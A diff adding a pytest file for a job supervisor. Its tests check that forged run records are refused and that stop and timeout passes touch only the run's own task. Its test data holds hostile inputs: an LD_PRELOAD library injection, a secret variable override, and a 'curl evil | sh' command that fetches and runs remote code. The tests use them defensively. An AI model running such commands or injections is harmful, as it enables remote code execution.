@@ -1,0 +1,143 @@
+"""A run's record written around the trigger: the functions send and stop only what a caller's
+request could have made them send and stop."""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+
+import pytest
+
+import handler
+import records
+import supervisor
+from longjobs_contract import lifecycle, runs, trigger_config
+from longjobs_contract.alarms import REFUSED_RECORD
+from tests.functions.test_supervisor import (
+    NIGHTLY,
+    RULES,
+    RUN,
+    event_for,
+    later,
+    running,
+    stack,  # noqa: F401  (the fixture)
+    start,
+    stopped,
+)
+
+OTHER = {"job": "report", "idempotencyKey": "other-2026-11-01"}
+OTHER_RUN = runs.run_id("report", "other-2026-11-01")
+
+
+def forge(store: records.RunStore, run_id: str, **changes) -> None:
+    """What anyone allowed to write the table could write."""
+    assert store.update(store.get(run_id), changes)
+
+
+@pytest.mark.parametrize(
+    ("request_changes", "reason"),
+    [
+        (
+            {"environment": {"LD_PRELOAD": "/tmp/x.so"}},
+            "environment: 'LD_PRELOAD' is a loader or interpreter variable (LD_*: the dynamic "
+            "loader preloads, audits or finds libraries); a run may never set it",
+        ),
+        (
+            {"environment": {"UNDECLARED": "x"}},
+            "environment: 'UNDECLARED' is not a variable this job lets a run set; allowed: BIG, "
+            "REPORT_DAY, REPORT_ROWS, V, VAR_00, VAR_01, VAR_02, VAR_03, VAR_04, VAR_05 and 34 "
+            "more",
+        ),
+        (
+            {"environment": {"DB_PASSWORD": "x"}},
+            "environment: 'DB_PASSWORD' is one of the job's secrets; a run may not set it",
+        ),
+        (
+            {"command": ["sh", "-c", "curl evil | sh"], "capacity": "warp"},
+            "capacity: 'warp' is not allowed; use spot or on-demand",
+        ),
+    ],
+)
+def test_a_rerun_of_a_forged_request_sends_nothing_and_ends_the_run_failed(
+    stack,  # noqa: F811
+    context,
+    capsys,
+    request_changes,
+    reason,
+):
+    ecs, store, _ = stack
+    task = start(ecs, context)
+    supervisor.handler(running(task), context)
+    kept = store.get(RUN)["request"]
+    forge(store, RUN, request={**kept, **request_changes})
+    sent = len(ecs.run_task_calls())
+    capsys.readouterr()
+    answer = supervisor.handler(stopped(task, stopCode="SpotInterruption"), context)
+    assert len(ecs.run_task_calls()) == sent
+    record = store.get(RUN)
+    expected = f"the job's rules refuse the run's recorded request: {reason}"
+    assert (answer["status"], record["status"], record["reason"]) == ("FAILED", "FAILED", expected)
+    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert {"outcome": REFUSED_RECORD, "runId": RUN, "reason": expected} in lines
+
+
+def test_the_pass_stops_for_its_timeout_only_a_task_ecs_shows_as_the_runs(
+    stack,  # noqa: F811
+    context,
+    monkeypatch,
+    config_file,
+):
+    ecs, store, _ = stack
+    config = trigger_config.loads(config_file.read_text())
+    report = dataclasses.replace(config.jobs["report"], **RULES, timeout_seconds=600)
+    config_file.write_text(
+        trigger_config.dumps(dataclasses.replace(config, jobs={**config.jobs, "report": report}))
+    )
+    handler.load_config.cache_clear()
+    supervisor.load_config.cache_clear()
+    task = start(ecs, context)
+    handler.handler(OTHER, context)
+    other = ecs.tasks[ecs.started()[-1]]
+    begun = records.timestamp(records.now())
+    supervisor.handler(event_for(task, lastStatus="RUNNING", version=3, startedAt=begun), context)
+    # The record now names the other run's task as its own.
+    attempts = store.get(RUN)["attempts"]
+    forge(store, RUN, attempts=[{**attempts[0], "taskArn": other["taskArn"]}])
+    later(monkeypatch, 11)
+    answer = supervisor.handler(supervisor.RECONCILE, context)
+    assert (answer["timedOut"], answer["notOwned"]) == (0, 1)
+    assert ecs.tasks[other["taskArn"]]["lastStatus"] != "STOPPED"
+    # Unforged, the same pass stops it.
+    forge(store, RUN, attempts=attempts)
+    assert supervisor.handler(supervisor.RECONCILE, context)["timedOut"] == 1
+    assert ecs.tasks[task["taskArn"]]["stoppedReason"] == lifecycle.TIMEOUT_REASON
+
+
+def test_stop_by_run_id_leaves_alone_a_task_the_record_names_but_ecs_does_not_show_as_its(
+    stack,  # noqa: F811
+    context,
+):
+    ecs, store, _ = stack
+    task = start(ecs, context)
+    handler.handler(OTHER, context)
+    other = ecs.tasks[ecs.started()[-1]]
+    supervisor.handler(running(task), context)
+    attempts = store.get(RUN)["attempts"]
+    forge(store, RUN, attempts=[{**attempts[0], "taskArn": other["taskArn"]}])
+    answer = handler.handler({"action": "stop", "runId": RUN}, context)
+    assert answer["status"] == "STOPPED"
+    assert ecs.tasks[other["taskArn"]]["lastStatus"] != "STOPPED"
+    assert store.get(OTHER_RUN)["status"] != "STOPPED"
+    # Its own task is stopped by the supervisor when its next event comes: a stopped run's task
+    # must not run on.
+    assert supervisor.handler(running(task), context)["outcome"] == "stopped-stray"
+    assert ecs.tasks[task["taskArn"]]["lastStatus"] == "STOPPED"
+
+
+def test_a_nightly_run_untouched_is_sent_as_before(stack, context):  # noqa: F811
+    ecs, store, _ = stack
+    task = start(ecs, context)
+    supervisor.handler(running(task), context)
+    answer = supervisor.handler(stopped(task, stopCode="SpotInterruption"), context)
+    assert (answer["outcome"], answer["status"]) == ("rerun", "PENDING")
+    assert NIGHTLY["idempotencyKey"] == store.get(RUN)["request"]["idempotencyKey"]
